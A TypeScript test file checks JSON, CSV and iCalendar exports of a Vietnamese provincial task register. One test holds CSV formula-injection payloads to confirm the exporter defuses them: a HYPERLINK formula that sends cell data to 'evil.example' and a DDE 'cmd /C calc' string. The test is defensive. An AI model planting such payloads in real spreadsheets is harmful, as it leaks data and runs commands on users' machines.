import ICAL from 'ical.js';
import { afterEach, describe, expect, it } from 'vitest';
import { tasksToCsv } from '../../src/lib/tasks/export-csv.ts';
import ical, { type ICalEventData } from 'ical-generator';
import { calendarChunks, tasksToIcs, tasksToIcsChunks } from '../../src/lib/tasks/export-ics.ts';
import { tasksToJson } from '../../src/lib/tasks/export-json.ts';
import { DOC, DOC_URL, LONG, REGISTER, TASKS, deadline, makeTask } from '../support/task-fixture.ts';
import { parseCsv } from '../support/csv.ts';

describe('tasksToJson', () => {
  const text = tasksToJson(REGISTER);
  const data = JSON.parse(text);

  it('writes indented JSON with a trailing newline and a fixed key order', () => {
    expect(text.endsWith('}\n')).toBe(true);
    expect(text.startsWith('{\n  "asOf": "2026-03-01",\n  "tasks": [\n')).toBe(true);
    expect(Object.keys(data.tasks[0])).toEqual([
      'id', 'document', 'ref', 'content', 'overseers', 'leads', 'coordinators', 'shared', 'product',
      'deadline', 'status', 'statusLabel', 'next',
    ]);
    expect(Object.keys(data.tasks[0].deadline)).toEqual(['text', 'kind', 'due', 'start', 'until', 'rrule', 'time', 'note', 'problem']);
  });

  it('writes absolute document URLs and organization ids', () => {
    expect(data.tasks.map((t: { id: string }) => t.id)).toEqual(TASKS.map((t) => t.id));
    expect(data.tasks[1].document).toEqual({ number: '08-CT/TU', title: DOC.title, url: DOC_URL });
    expect(data.tasks[1].leads).toEqual([{ name: 'Sở Tư pháp', organization: 'so-tu-phap-dien-bien' }]);
    expect(data.tasks[1].coordinators[1]).toEqual({ name: 'các địa phương', organization: null });
    expect(data.tasks[3].deadline).toEqual({
      text: 'Hằng tuần (trước 15h ngày thứ Năm)', kind: 'recurring', due: '2026-03-05', start: '2026-03-02',
      until: '2026-12-31', rrule: 'FREQ=WEEKLY;BYDAY=TH', time: '15:00', note: null, problem: null,
    });
    expect(data.tasks[3].next).toBe('2026-03-05');
  });

  it('names the bodies given a task in common, and writes [] for a task given to none', () => {
    const shared = new Map([[TASKS[1]!.id, [{ organization: 'cap-xa-dien-bien', name: 'Các xã, phường tỉnh Điện Biên', role: 'coordinators' as const, via: ['các địa phương'] }]]]);
    const withShared = JSON.parse(tasksToJson({ ...REGISTER, shared }));
    expect(withShared.tasks[1].shared).toEqual([{ organization: 'cap-xa-dien-bien', name: 'Các xã, phường tỉnh Điện Biên', role: 'coordinators', via: ['các địa phương'] }]);
    expect(withShared.tasks[0].shared).toEqual([]);
    expect(data.tasks[1].shared).toEqual([]);
  });

  it('says why no day could be worked out', () => {
    const problem = { code: 'needs-year' as const, message: 'Cần ngày ban hành văn bản để tính mốc sơ kết, tổng kết.' };
    const task = makeTask('7', { deadline: deadline({ text: '03 năm sơ kết, 05 năm tổng kết', kind: 'unspecified', problem }) });
    const one = JSON.parse(tasksToJson({ ...REGISTER, tasks: [task] }));
    expect(one.tasks[0].deadline.problem).toEqual(problem);
  });
});

describe('tasksToCsv', () => {
  const text = tasksToCsv(REGISTER);
  const rows = parseCsv(text.slice(1));

  it('starts with a BOM and a Vietnamese header row', () => {
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(rows[0]!).toEqual([
      'Mã nhiệm vụ', 'Số văn bản', 'Trích yếu', 'Đường dẫn', 'STT', 'Nội dung', 'Cấp ủy theo dõi chỉ đạo',
      'Chủ trì', 'Phối hợp', 'Sản phẩm', 'Thời gian hoàn thành (nguyên văn)', 'Loại thời hạn', 'Hạn chót',
      'Bắt đầu', 'Kết thúc', 'Lặp lại (RRULE)', 'Giờ', 'Ghi chú về thời hạn', 'Trạng thái', 'Hạn kế tiếp', 'Giao chung cho',
    ]);
    expect(rows).toHaveLength(TASKS.length + 1);
    expect(rows.every((r) => r.length === 21)).toBe(true);
  });

  it('round-trips quotes, commas and line breaks, and joins lists with "; "', () => {
    const row = rows[2]!;
    expect(row[0]).toBe('dien-bien/08-ct-tu-2026/0/2');
    expect(row[2]).toBe(DOC.title);
    expect(row[3]).toBe(`${DOC_URL}#nhiem-vu-2`);
    expect(row[8]).toBe('Các sở, ban, ngành liên quan; các địa phương');
    expect(row[9]).toBe('Báo cáo "sơ kết", tổng kết\ndòng hai');
    expect(row.slice(10)).toEqual([
      'Quý II/2026', 'Trong một khoảng thời gian', '2026-06-30', '2026-04-01', '2026-06-30', '', '', '', 'Sắp đến hạn', '', '',
    ]);
    expect(text).toContain('"Báo cáo ""sơ kết"", tổng kết\ndòng hai"');
  });

  it('gives a recurring task its time, the deadline note and its next occurrence beside its first', () => {
    const weekly = rows.find((r) => r[0]!.endsWith('/8'))!;
    expect(weekly.slice(12)).toEqual(['2026-03-05', '2026-03-02', '2026-12-31', 'FREQ=WEEKLY;BYDAY=TH', '15:00', '', 'Định kỳ', '2026-03-05', '']);
    const noted = tasksToCsv({ ...REGISTER, tasks: [makeTask('4', {
      deadline: deadline({ text: 'Trước Quý II/2026', kind: 'date', due: '2026-03-31', note: 'Đọc là trước ngày 01/04/2026.' }),
      next: '2026-03-31',
    })] });
    expect(parseCsv(noted.slice(1))[1]!.slice(16)).toEqual(['', 'Đọc là trước ngày 01/04/2026.', 'Chưa xác định thời hạn', '2026-03-31', '']);
  });

  it('says in the deadline note why no day could be worked out, as the pages do', () => {
    const problem = { code: 'needs-year' as const, message: 'Cần ngày ban hành văn bản để tính mốc sơ kết, tổng kết.' };
    const csv = tasksToCsv({ ...REGISTER, tasks: [makeTask('7', { deadline: deadline({ text: '03 năm sơ kết, 05 năm tổng kết', kind: 'unspecified', problem }) })] });
    expect(parseCsv(csv.slice(1))[1]![17]).toBe('Cổng chưa tính được hạn: cần ngày ban hành văn bản để tính mốc sơ kết, tổng kết.');
  });
});

describe('tasksToCsv and tasks given in common', () => {
  it('writes in its last column each body a general name of the row includes, its column and that name', () => {
    const shared = new Map([[TASKS[1]!.id, [
      { organization: 'cap-xa-dien-bien', name: 'Các xã, phường tỉnh Điện Biên', role: 'coordinators' as const, via: ['các địa phương'] },
      { organization: 'so-tu-phap-dien-bien', name: 'Sở Tư pháp tỉnh Điện Biên', role: 'coordinators' as const, via: ['Các sở, ban, ngành liên quan', 'các địa phương'] },
    ]]]);
    const rows = parseCsv(tasksToCsv({ ...REGISTER, shared }).slice(1));
    expect(rows[2]![20]).toBe('Các xã, phường tỉnh Điện Biên (phối hợp, qua “các địa phương”); Sở Tư pháp tỉnh Điện Biên (phối hợp, qua “Các sở, ban, ngành liên quan”, “các địa phương”)');
    expect(rows[1]![20]).toBe('');
  });
});

describe('tasksToCsv and spreadsheet formulas', () => {
  it('makes a cell that a spreadsheet would run as a formula text, with a leading apostrophe', () => {
    const csv = tasksToCsv({ ...REGISTER, tasks: [makeTask('5', {
      content: '=HYPERLINK("https://evil.example/?d="&B2,"Kế hoạch")',
      product: '@SUM(1+1)*cmd|\' /C calc\'!A0',
      leads: [{ name: '- Sở Tư pháp', orgId: null, slug: 'so-tu-phap' }],
      coordinators: [{ name: '+ các sở', orgId: null, slug: 'cac-so' }],
    })] });
    const row = parseCsv(csv.slice(1))[1]!;
    expect(row[5]).toBe('\'=HYPERLINK("https://evil.example/?d="&B2,"Kế hoạch")');
    expect(row[9]).toBe('\'@SUM(1+1)*cmd|\' /C calc\'!A0');
    expect([row[7], row[8]]).toEqual(['\'- Sở Tư pháp', '\'+ các sở']);
    // Cells that merely contain those signs are left alone.
    expect(row[4]).toBe('5.');
    expect(csv).not.toMatch(/(^|,)[=+@-]/m);
  });
});

describe('tasksToIcs', () => {
  const OPTIONS = { name: 'Nhiệm vụ, Điện Biên', description: 'Hạn các nhiệm vụ của văn bản chỉ đạo.' };
  const text = tasksToIcs(REGISTER, OPTIONS);
  const calendar = new ICAL.Component(ICAL.parse(text));
  const events = calendar.getAllSubcomponents('vevent');
  const byUid = (uid: string) => events.find((e) => e.getFirstPropertyValue('uid') === uid)!;
  const uid = (key: string) => `dien-bien/08-ct-tu-2026/0/${key}@phapluat.example.gov.vn`;
  const origTz = process.env.TZ;
  afterEach(() => { process.env.TZ = origTz; });

  it('has one event per task with a day, sorted by id, with stable UIDs', () => {
    expect(events.map((e) => e.getFirstPropertyValue('uid'))).toEqual([uid('2'), uid('3'), uid('8'), uid('9')]);
  });

  it('places dated and period tasks as all-day events on the due day', () => {
    for (const [key, due] of [['3', '2026-05-31'], ['2', '2026-06-30']] as const) {
      const start = byUid(uid(key)).getFirstProperty('dtstart')!;
      expect(start.type).toBe('date');
      expect(String(start.getFirstValue())).toBe(due);
    }
  });

  it('writes the weekly rule with its end, at the hour the phrase gives (15:00 in Vietnam)', () => {
    // "Hằng tuần (trước 15h ngày thứ Năm)": every Thursday at 15:00 Asia/Ho_Chi_Minh, 08:00 UTC.
    const event = byUid(uid('8'));
    const start = event.getFirstPropertyValue('dtstart') as ICAL.Time;
    expect(start.isDate).toBe(false);
    expect(start.toString()).toBe('2026-03-05T08:00:00Z');
    expect((event.getFirstPropertyValue('dtend') as ICAL.Time).toString()).toBe('2026-03-05T08:00:00Z');
    const rule = event.getFirstPropertyValue('rrule') as ICAL.Recur;
    expect(rule.freq).toBe('WEEKLY');
    expect(rule.parts.BYDAY).toEqual(['TH']);
    expect(rule.until?.isDate).toBe(false);
    expect(rule.until?.toString()).toBe('2026-12-31T08:00:00Z');
    // The last occurrence is the last Thursday of the window, 31/12/2026, at its hour.
    const occurrences: string[] = [];
    const it = new ICAL.Event(event).iterator();
    for (let next = it.next(); next; next = it.next()) occurrences.push(next.toString());
    expect(occurrences[0]).toBe('2026-03-05T08:00:00Z');
    expect(occurrences.at(-1)).toBe('2026-12-31T08:00:00Z');
    expect(occurrences).toHaveLength(44);
    const yearly = byUid(uid('9')).getFirstPropertyValue('rrule') as ICAL.Recur;
    expect(yearly.freq).toBe('YEARLY');
    expect(yearly.until).toBeNull();
    expect((byUid(uid('9')).getFirstPropertyValue('dtstart') as ICAL.Time).isDate).toBe(true);
  });

  it('fills summary, description, URL and stamp', () => {
    const event = byUid(uid('3'));
    const summary = String(event.getFirstPropertyValue('summary'));
    expect(summary.startsWith('[08-CT/TU, 3.] Rà soát, ban hành cơ chế')).toBe(true);
    expect(summary.endsWith('…')).toBe(true);
    expect(summary.length).toBeLessThanOrEqual(96);
    expect(String(byUid(uid('2')).getFirstPropertyValue('summary'))).toBe('[08-CT/TU, 2.] Nhiệm vụ 2');
    // Every role of the row; the status is dated, as a recurring event repeats it on every occurrence.
    expect(String(event.getFirstPropertyValue('description'))).toBe(
      `Chủ trì: Sở Tư pháp\nCấp ủy theo dõi chỉ đạo: Đảng ủy UBND tỉnh\nSản phẩm: Kế hoạch\nThời gian hoàn thành: Hoàn thành trước ngày 31/5/2026\nTrạng thái ngày 01/03/2026: Chưa đến hạn\nVăn bản: 08-CT/TU ${DOC.title}, dòng 3`,
    );
    expect(String(byUid(uid('2')).getFirstPropertyValue('description'))).toContain('\nPhối hợp: Các sở, ban, ngành liên quan; các địa phương\n');
    expect(String(event.getFirstPropertyValue('url'))).toBe(`${DOC_URL}#nhiem-vu-3`);
    expect(String(event.getFirstPropertyValue('dtstamp'))).toBe('2026-03-01T00:00:00Z');
  });

  it('starts a rule with no first day (no issue date) at its next occurrence, and says so', () => {
    const task = makeTask('10', {
      deadline: deadline({ text: 'Hằng tháng (trước ngày 16)', kind: 'recurring', rrule: 'FREQ=MONTHLY;BYMONTHDAY=15' }),
      status: 'recurring',
      statusLabel: 'Định kỳ – kỳ tới 15/03/2026',
      next: '2026-03-15',
    });
    const parsed = new ICAL.Component(ICAL.parse(tasksToIcs({ ...REGISTER, tasks: [task] }, OPTIONS)));
    const [event] = parsed.getAllSubcomponents('vevent');
    expect(String(event!.getFirstPropertyValue('dtstart'))).toBe('2026-03-15');
    expect((event!.getFirstPropertyValue('rrule') as ICAL.Recur).parts.BYMONTHDAY).toEqual([15]);
    expect(String(event!.getFirstPropertyValue('description'))).toContain('Văn bản không ghi ngày ban hành: lịch tính từ kỳ tới 15/03/2026.');
    // A task with a first day does not say it.
    expect(String(byUid(uid('8')).getFirstPropertyValue('description'))).not.toContain('không ghi ngày ban hành');
  });

  it('names the calendar and counts the tasks it leaves out', () => {
    // ical.js leaves NAME (RFC 7986) and X- properties undecoded; both are TEXT, so escaped.
    expect(calendar.getFirstPropertyValue('name')).toBe('Nhiệm vụ\\, Điện Biên');
    expect(calendar.getFirstPropertyValue('x-wr-calname')).toBe('Nhiệm vụ\\, Điện Biên');
    expect(calendar.getFirstPropertyValue('x-wr-timezone')).toBe('Asia/Ho_Chi_Minh');
    expect(String(calendar.getFirstPropertyValue('x-wr-caldesc'))).toBe(
      'Hạn các nhiệm vụ của văn bản chỉ đạo. Lịch có 4 nhiệm vụ\\; 2 nhiệm vụ thường xuyên hoặc chưa xác định thời hạn không có ngày nên không có trên lịch.',
    );
  });

  it('is byte-identical across builds, input orders and machine time zones', () => {
    process.env.TZ = 'Pacific/Kiritimati';
    const east = tasksToIcs({ ...REGISTER, tasks: [...TASKS].reverse() }, OPTIONS);
    process.env.TZ = 'America/Los_Angeles';
    const west = tasksToIcs(REGISTER, OPTIONS);
    expect(east).toBe(text);
    expect(west).toBe(text);
  });

  it('folds lines to 75 octets and ends every line with CRLF', () => {
    expect(text.endsWith('END:VCALENDAR\r\n')).toBe(true);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    const lines = text.split('\r\n').slice(0, -1);
    expect(lines.some((l) => l.startsWith(' '))).toBe(true);
    for (const line of lines) expect(Buffer.byteLength(line, 'utf8')).toBeLessThanOrEqual(75);
  });
});

describe('calendarChunks', () => {
  // Long Vietnamese descriptions, so lines are folded, and an X- property after the events.
  const calendar = () => ical({ name: 'Nhiệm vụ', prodId: { company: 'example.gov.vn', product: 'nhiem-vu' }, x: [['X-WR-TIMEZONE', 'Asia/Ho_Chi_Minh']] });
  const calendarText = (cal: ReturnType<typeof calendar>, events: ICalEventData[], batch: number) => [...calendarChunks(cal, events, (e) => e, batch)].join('');
  const events = (n: number): ICalEventData[] => Array.from({ length: n }, (_, i) => ({
    id: `nv-${i}@example.gov.vn`,
    stamp: new Date('2026-03-01T00:00:00Z'),
    allDay: true,
    start: new Date(`2026-04-${String((i % 28) + 1).padStart(2, '0')}T00:00:00Z`),
    summary: `[${i}] Nhiệm vụ số ${i}`,
    description: `${LONG} (${i})\nChủ trì: Sở Tư pháp`,
  }));

  it('writes, a batch at a time, the same text as ical-generator writing the calendar at once', () => {
    for (const n of [1, 6, 7, 9]) {
      const whole = calendarText(calendar(), events(n), Number.POSITIVE_INFINITY);
      expect(whole.split('\r\n').some((l) => l.startsWith(' '))).toBe(true);
      for (const batch of [1, 3, n]) expect(calendarText(calendar(), events(n), batch)).toBe(whole);
    }
  });

  it('keeps every event once, and the calendar properties before and after them once', () => {
    const text = calendarText(calendar(), events(8), 3);
    const parsed = new ICAL.Component(ICAL.parse(text));
    expect(parsed.getAllSubcomponents('vevent').map((e) => e.getFirstPropertyValue('uid'))).toEqual(events(8).map((e) => e.id));
    expect(text.match(/^BEGIN:VCALENDAR\r\n/gm)).toHaveLength(1);
    expect(text.match(/\r\nX-WR-TIMEZONE:Asia\/Ho_Chi_Minh\r\nEND:VCALENDAR$/)).not.toBeNull();
  });

  it('is how tasksToIcs writes a register of more tasks than one batch', () => {
    const many = Array.from({ length: 1_201 }, (_, i) => makeTask(String(i + 100), {
      content: `${LONG} ${i}`,
      deadline: deadline({ text: 'Hoàn thành trước ngày 31/5/2026', kind: 'date', due: '2026-05-31' }),
    }));
    const chunks = [...tasksToIcsChunks({ ...REGISTER, tasks: many }, { name: 'Nhiệm vụ', description: 'Hạn các nhiệm vụ.' })];
    expect(chunks).toHaveLength(4); // three batches (500, 500, 201) and the end of the calendar
    const text = chunks.join('');
    expect(text.endsWith('END:VCALENDAR\r\n')).toBe(true);
    expect(new ICAL.Component(ICAL.parse(text)).getAllSubcomponents('vevent')).toHaveLength(1_201);
    expect(text.match(/^BEGIN:VEVENT\r\n/gm)).toHaveLength(1_201);
    expect(text.match(/^(BEGIN|END):VCALENDAR\r\n/gm)).toHaveLength(2);
  });
});
